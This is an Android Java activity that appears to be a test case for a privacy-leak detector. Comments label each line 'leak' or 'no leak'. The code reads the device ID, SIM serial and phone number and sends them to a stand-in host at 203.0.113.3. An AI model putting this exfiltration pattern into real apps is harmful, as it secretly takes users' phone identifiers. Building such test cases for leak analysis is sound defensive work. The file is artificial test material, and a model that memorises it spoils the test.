package habits;

import android.app.Activity;
import android.content.Context;
import android.os.Bundle;
import android.telephony.TelephonyManager;
import java.lang.ref.WeakReference;
import java.net.URL;
import java.util.Arrays;
import java.util.Iterator;
import java.util.Optional;
import java.util.concurrent.atomic.AtomicReference;

/** What holds a value. */
public class Wrapped extends Activity {
    private static final ThreadLocal<StringBuilder> BUFFER = ThreadLocal.withInitial(StringBuilder::new);

    @Override
    protected void onCreate(Bundle state) {
        TelephonyManager phone = (TelephonyManager) getSystemService(Context.TELEPHONY_SERVICE);
        BUFFER.get().append(phone.getDeviceId());
        WeakReference<String> weak = new WeakReference<>(phone.getSimSerialNumber());
        AtomicReference<String> atomic = new AtomicReference<>("none");
        Optional<String> line = Optional.ofNullable(phone.getLine1Number()).map(String::trim).filter(one -> !one.isEmpty());
        Iterator<String> names = Arrays.asList("a", "b").iterator();
        try {
            new URL("http://203.0.113.3/1/" + BUFFER.get()).openStream(); // leak
            new URL("http://203.0.113.3/2/" + weak.get()).openStream(); // leak
            new URL("http://203.0.113.3/3/" + line.orElse("")).openStream(); // leak
            new URL("http://203.0.113.3/4/" + atomic.get()).openStream(); // no leak
            new URL("http://203.0.113.3/5/" + names.next()).openStream(); // no leak
        } catch (Exception ignored) {
        }
    }
}
